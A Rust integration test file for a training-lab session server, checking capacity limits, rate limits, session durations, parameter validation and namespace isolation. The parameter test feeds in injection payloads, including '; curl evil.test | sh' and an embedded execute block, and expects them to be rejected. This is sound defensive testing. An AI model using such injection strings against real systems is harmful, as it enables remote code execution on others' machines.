//! The operator's bounds: how many sessions at once, of a lab, in all, for a person; and what a lab's parameters take.

use std::time::{Duration, Instant};

use lectern_api::ids::SessionId;
use lectern_api::sessions::{Session, SessionState};
use lectern_server::config::portal::{LabNumbers, Maxima, Portal};
use serde_json::json;
use sqlx::Connection as _;

use crate::support::client::{Answer, Client};
use crate::support::lab_folder::{LAB, PAGES};
use crate::support::{Setting, TestApp, run, run_with};

const OTHER: &str = "other-lab";

fn bounded(sessions: Maxima, defaults: LabNumbers) -> Setting {
    let sessions = Maxima { reserved_labs: Some(0), ..sessions };
    Setting { portal: Some(Portal { sessions, defaults, ..Portal::default() }), ..Setting::default() }
}

async fn start(learner: &Client, lab: &str) -> Answer {
    learner.post("/api/v1/sessions", &json!({ "lab": lab })).await
}

async fn end(learner: &Client, id: SessionId) {
    learner.delete(&format!("/api/v1/sessions/{id}")).await.expect(204);
}

fn add_other_lab(app: &TestApp) {
    app.labs.write_manifest(OTHER, "Another one");
    app.labs.write(&format!("{OTHER}/workshop/content/{}.md", PAGES[0]), "# Hello\n");
    app.services.catalog.reload().expect("the folder of labs is there");
}

#[test]
fn a_lab_that_is_full_says_so_and_when_to_try_again() {
    let capacity = LabNumbers { capacity: Some(2), ..LabNumbers::default() };
    run_with(bounded(Maxima::default(), capacity), async |app| {
        let learners = [app.learner("ada").await, app.learner("eve").await, app.learner("kay").await];
        let first: Session = start(&learners[0], LAB).await.expect(201).json();
        start(&learners[1], LAB).await.expect(201);
        let full = start(&learners[2], LAB).await;
        assert_eq!(full.headers["retry-after"], "30");
        let problem = full.problem(503, "no_room");
        assert!(problem.detail.contains("all 2 places of the lab shell-basics are taken"), "{problem:?}");
        // who has a session keeps it, and an end makes room at once
        assert_eq!(start(&learners[0], LAB).await.expect(200).json::<Session>().id, first.id);
        end(&learners[0], first.id).await;
        start(&learners[2], LAB).await.expect(201);
    });
}

#[test]
fn many_learners_at_once_never_get_more_places_than_there_are() {
    let maximum = Maxima { maximum: Some(3), ..Maxima::default() };
    run_with(bounded(maximum, LabNumbers::default()), async |app| {
        add_other_lab(app);
        let mut learners = vec![];
        for number in 0..8 {
            learners.push(app.learner(&format!("learner{number}")).await);
        }
        let labs = [LAB, OTHER].into_iter().cycle();
        let starts = learners.iter().zip(labs).map(|(learner, lab)| start(learner, lab));
        let answers = futures::future::join_all(starts).await;
        let got = answers.iter().filter(|answer| answer.status == 201).count();
        assert_eq!(got, 3);
        for refused in answers.into_iter().filter(|answer| answer.status != 201) {
            let problem = refused.problem(503, "no_room");
            assert!(problem.detail.contains("3 sessions run"), "{problem:?}");
        }
    });
}

#[test]
fn a_person_runs_as_many_labs_at_once_as_they_may() {
    let maxima = Maxima { registered: Some(2), anonymous: Some(1), ..Maxima::default() };
    run_with(bounded(maxima, LabNumbers::default()), async |app| {
        add_other_lab(app);
        let (ada, visitor) = (app.learner("ada").await, app.learner("visitor").await);
        app.execute("update users set anonymous = true where username = 'visitor'").await;
        start(&ada, LAB).await.expect(201);
        start(&ada, OTHER).await.expect(201);
        let hers: Session = start(&visitor, LAB).await.expect(201).json();
        let problem = start(&visitor, OTHER).await.problem(409, "too_many_sessions");
        assert!(problem.detail.contains("you run 1 labs at once already"), "{problem:?}");
        end(&visitor, hers.id).await;
        start(&visitor, OTHER).await.expect(201);
    });
}

#[test]
fn requests_of_one_person_for_many_labs_at_once_are_counted() {
    run_with(
        bounded(Maxima { registered: Some(1), ..Maxima::default() }, LabNumbers::default()),
        async |app| {
            add_other_lab(app);
            let ada = app.learner("ada").await;
            let both = futures::future::join(start(&ada, LAB), start(&ada, OTHER)).await;
            let mut statuses = [both.0.status.as_u16(), both.1.status.as_u16()];
            statuses.sort_unstable();
            assert_eq!(statuses, [201, 409]);
        },
    );
}

#[test]
fn a_session_runs_as_long_as_the_operator_says() {
    let numbers = LabNumbers {
        expires: serde_json::from_value(json!("45m")).ok(),
        overtime: serde_json::from_value(json!(0)).ok(),
        ..LabNumbers::default()
    };
    run_with(bounded(Maxima::default(), numbers), async |app| {
        let ada = app.learner("ada").await;
        start(&ada, LAB).await.expect(201);
        let terms = "select count(*) from sessions
                     where duration_secs = 2700 and overtime_secs = 0 and deadline_secs = 5400";
        assert_eq!(app.count(terms).await, 1);
    });
}

#[test]
fn a_person_starts_so_many_labs_an_hour() {
    let maxima = Maxima { starts_per_hour: Some(2), ..Maxima::default() };
    run_with(bounded(maxima, LabNumbers::default()), async |app| {
        let (ada, eve) = (app.learner("ada").await, app.learner("eve").await);
        for _ in 0..2 {
            let session: Session = start(&ada, LAB).await.expect(201).json();
            end(&ada, session.id).await;
        }
        let refused = start(&ada, LAB).await;
        let wait: u64 = refused.headers["retry-after"].to_str().unwrap().parse().unwrap();
        assert!((3500..=3600).contains(&wait), "{wait}");
        let problem = refused.problem(429, "too_many_starts");
        assert!(problem.detail.contains("2 labs within an hour"), "{problem:?}");
        start(&eve, LAB).await.expect(201);
        app.execute("update sessions set created_at = now() - interval '61 minutes'").await;
        start(&ada, LAB).await.expect(201);
    });
}

#[test]
fn what_a_person_ended_counts_until_nothing_of_it_is_left() {
    run_with(
        bounded(Maxima { registered: Some(1), ..Maxima::default() }, LabNumbers::default()),
        async |app| {
            let ada = app.learner("ada").await;
            // who ends a lab and starts it again need not wait
            for _ in 0..3 {
                let session: Session = start(&ada, LAB).await.expect(201).json();
                end(&ada, session.id).await;
            }
            let refused = start(&ada, LAB).await;
            assert_eq!(refused.headers["retry-after"], "30");
            refused.problem(429, "still_ending");
            // over for its learner, while a finalizer keeps its namespace
            app.execute("update sessions set phase = 'ended', ended_at = now()").await;
            start(&ada, LAB).await.problem(429, "still_ending");
            app.execute("update sessions set removed_at = now()").await;
            start(&ada, LAB).await.expect(201);
        },
    );
}

#[test]
fn what_is_leaving_takes_up_room_in_its_lab() {
    let capacity = LabNumbers { capacity: Some(1), ..LabNumbers::default() };
    run_with(bounded(Maxima::default(), capacity), async |app| {
        for number in 0..3 {
            let learner = app.learner(&format!("learner{number}")).await;
            let session: Session = start(&learner, LAB).await.expect(201).json();
            end(&learner, session.id).await;
        }
        let kay = app.learner("kay").await;
        start(&kay, LAB).await.problem(503, "no_room");
        app.execute("update sessions set phase = 'ended', ended_at = now(), removed_at = now()").await;
        start(&kay, LAB).await.expect(201);
    });
}

#[test]
fn starts_that_wait_take_no_connection_from_others() {
    run(async |app| {
        let (ada, eve) = (app.learner("ada").await, app.learner("eve").await);
        // another server is at it, for longer than any of this
        let mut elsewhere = sqlx::PgConnection::connect_with(&app.database.options(None)).await.unwrap();
        sqlx::query("select pg_advisory_lock(hashtextextended($1, 7))")
            .bind(ada.id().to_string())
            .execute(&mut elsewhere)
            .await
            .unwrap();
        let starts = futures::future::join_all((0..20).map(|_| start(&ada, LAB)));
        let meanwhile = async {
            for _ in 0..20 {
                let asked = Instant::now();
                eve.get("/api/v1/sessions").await.expect(200);
                assert!(asked.elapsed() < Duration::from_secs(2), "{:?}", asked.elapsed());
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
            elsewhere.close().await.unwrap();
        };
        let (answers, ()) = futures::join!(starts, meanwhile);
        let got = answers.iter().filter(|answer| answer.status.is_success()).count();
        assert!(got > 0 && answers.iter().all(|answer| answer.status.is_success() || answer.status == 429));
        assert_eq!(app.count("select count(*) from sessions").await, 1);
    });
}

/// The lab, with parameters.
fn add_parameters(app: &TestApp) {
    app.labs.write(
        &format!("{LAB}/resources/workshop.yaml"),
        &format!(
            "apiVersion: training.educates.dev/v1beta1\nkind: Workshop\nmetadata: {{name: {LAB}}}\nspec:\n  \
             title: With parameters\n  request:\n    parameters:\n    - {{name: COLOUR, value: red, aliases: [COLOR]}}\n    \
             - {{name: SIZE, value: \"3\"}}\n  session:\n    env:\n    - {{name: PAINT, value: \"$(COLOUR)-$(SIZE)\"}}\n"
        ),
    );
    app.labs.write(
        &format!("{LAB}/workshop/content/{}.md", PAGES[0]),
        "---\ntitle: Look\n---\n\n{{< param COLOUR >}} and {{< param PAINT >}}\n",
    );
    app.services.catalog.reload().expect("the folder of labs is there");
}

#[test]
fn a_parameter_is_set_by_its_name_or_alias_and_reaches_pages_and_environment() {
    run(async |app| {
        add_parameters(app);
        let ada = app.learner("ada").await;
        let wish = json!({"lab": LAB, "parameters": {"COLOR": "light blue"}});
        let session: Session = ada.post("/api/v1/sessions", &wish).await.expect(201).json();
        assert!(matches!(session.state, SessionState::Starting { .. }), "{session:?}");
        let page = ada.get(&format!("/api/v1/sessions/{}/pages/{}", session.id, PAGES[0])).await.expect(200);
        assert!(page.body.contains("light blue and light blue-3"), "{}", page.body);
        let kept =
            r#"select count(*) from sessions where parameters = '{"COLOUR": "light blue", "SIZE": "3"}'"#;
        assert_eq!(app.count(kept).await, 1);
        end(&ada, session.id).await;
    });
}

#[test]
fn a_parameter_that_the_lab_does_not_have_is_the_callers_mistake() {
    run(async |app| {
        add_parameters(app);
        let ada = app.learner("ada").await;
        for (parameters, told) in [
            (json!({"SHAPE": "round"}), "has no parameter \"SHAPE\"; it has COLOUR, SIZE"),
            (json!({"COLOUR": "x".repeat(5000)}), "at most 4096 bytes"),
            (json!({"COLOUR": "a\u{0}b"}), "at most 4096 bytes"),
            (json!({"COLOUR": "a\n```execute\nid\n```"}), "on one line"),
            (json!({"COLOR": "$(SIZE)blue"}), "takes letters, digits, blanks"),
            (json!({"COLOUR": "; curl evil.test | sh"}), "takes letters, digits, blanks"),
        ] {
            let answer = ada.post("/api/v1/sessions", &json!({"lab": LAB, "parameters": parameters})).await;
            let problem = answer.problem(400, "bad_parameter");
            assert!(problem.detail.contains(told), "{problem:?}");
            assert_eq!(problem.field.as_deref(), Some("parameters"));
        }
        let answer = ada.post("/api/v1/sessions", &json!({"lab": LAB, "parameters": {"SIZE": 3}})).await;
        answer.problem(400, "unreadable_request");
        assert_eq!(app.count("select count(*) from sessions").await, 0);
    });
}

#[test]
fn the_second_namespaces_of_a_lab_never_meet_another_sessions_whatever_they_are_called() {
    run(async |app| {
        let ada = app.learner("ada").await;
        let names = [
            "kube-system",
            "$(session_namespace)",
            "$(session_namespace)-",
            "x-$(session_namespace)",
            "$(session_namespace)-A",
            "$(session_namespace)-a",
        ];
        let secondary: String = names.map(|name| format!("      - name: \"{name}\"\n")).concat();
        app.labs.write(
            &format!("{LAB}/resources/workshop.yaml"),
            &format!(
                "apiVersion: training.educates.dev/v1beta1\nkind: Workshop\nmetadata: {{name: {LAB}}}\nspec:\n  \
                 session:\n    namespaces:\n      secondary:\n{secondary}"
            ),
        );
        app.services.catalog.reload().expect("the folder of labs is there");
        start(&ada, LAB).await.expect(201);
        let own = "select count(distinct name) from sessions, unnest(secondary_namespaces) as name
             where name like namespace || '-%' and name ~ '^[a-z0-9-]*[a-z0-9]$' and length(name) <= 63";
        assert_eq!(app.count(own).await, 6);
    });
}
